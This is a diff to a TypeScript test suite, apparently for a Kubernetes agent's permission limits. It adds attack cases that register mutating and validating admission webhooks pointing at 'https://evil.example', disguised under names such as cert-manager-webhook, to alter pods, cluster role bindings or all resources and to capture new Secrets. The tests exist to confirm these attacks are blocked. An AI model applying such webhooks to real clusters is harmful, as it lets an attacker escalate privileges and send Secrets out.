@@ -181,7 +181,27 @@ describe('what nobody can make the agent do', () => {
     return apply(agent, bindingOf('redis-operator', role, operator));
   };
 
+  const webhook = (name: string, apiGroups: string[], resources: string[], kind = 'MutatingWebhookConfiguration') =>
+    apply(agent, {
+      apiVersion: 'admissionregistration.k8s.io/v1',
+      kind,
+      metadata: { name },
+      webhooks: [
+        {
+          name: 'a.evil.example',
+          admissionReviewVersions: ['v1'],
+          sideEffects: 'None',
+          clientConfig: { url: 'https://evil.example' },
+          rules: [{ apiGroups, apiVersions: ['*'], operations: ['CREATE'], resources }],
+        },
+      ],
+    });
+
   const attacks: Attack[] = [
+    ['change every resource by a webhook of a name it may write', () => webhook('cert-manager-webhook', ['*'], ['*'])],
+    ['change pods everywhere by the webhook of the AWS controller', () => webhook('aws-load-balancer-webhook', [''], ['pods'])],
+    ['change bindings by a webhook', () => webhook('cert-manager-webhook', ['rbac.authorization.k8s.io'], ['clusterrolebindings'])],
+    ['read new Secrets by a webhook', () => webhook('istio-validator', [''], ['secrets'], 'ValidatingWebhookConfiguration')],
     ['bind cluster-admin under a name it may write', () => bindAnew('cluster-admin')],
     [
       'bind admin in one of its namespaces',
